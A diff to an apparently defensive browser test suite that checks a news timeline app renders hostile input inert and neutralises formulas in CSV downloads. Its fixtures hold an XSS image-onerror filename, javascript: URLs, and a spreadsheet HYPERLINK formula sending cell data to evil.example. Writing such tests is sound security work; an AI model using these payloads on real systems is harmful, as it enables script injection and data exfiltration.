@@ -47,7 +47,8 @@ const TEXT = [
 const FILE_NAME = `"><img data-pwn src=x onerror=alert(7)>.json`;
 const FILE_RECORDS = [
   {
-    title: `Talks stall ${P.svg}`,
+    // Also a spreadsheet formula: the CSV download must not hand it to Excel as one.
+    title: `=HYPERLINK("https://evil.example/?"&A1,"Talks stall") ${P.svg}`,
     outlet: `<a class="pwn" href="javascript:${RUN}">Desk</a>`,
     url: `javascript:${RUN}`,
     published: "2024-06-03",
@@ -247,6 +248,14 @@ test("every view that shows the hostile content renders it inert", async ({ page
   for (const visible of [TITLE, OUTLET, AUTHOR, NOTE, P.link, P.svg, P.iframe, P.form, P.entity]) {
     expect(shown, `shown as text somewhere: ${visible}`).toContain(visible);
   }
+  // CSV downloads neutralise formulas (a leading ') and keep the text.
+  await open(page, "/timeline");
+  const download = page.waitForEvent("download");
+  await page.getByRole("button", { name: "Download CSV" }).last().click();
+  const { readFileSync } = await import("node:fs");
+  const csv = readFileSync(await (await download).path(), "utf8");
+  expect(csv).toContain(`'=HYPERLINK(""https://evil.example/?""&A1,""Talks stall"")`);
+  expect(csv).not.toMatch(/(^|[,\n])"?[=+@]/);
   // No link to the article's javascript: URL, anywhere (checked per view above); the reader shows it as text.
   await open(page, `/articles/${enc((await api<{ id: string }[]>("articles.list", { text: "timetable" }))[0]!.id)}`);
   await expect(page.getByText(/^javascript:window\.__xss/)).toBeVisible();
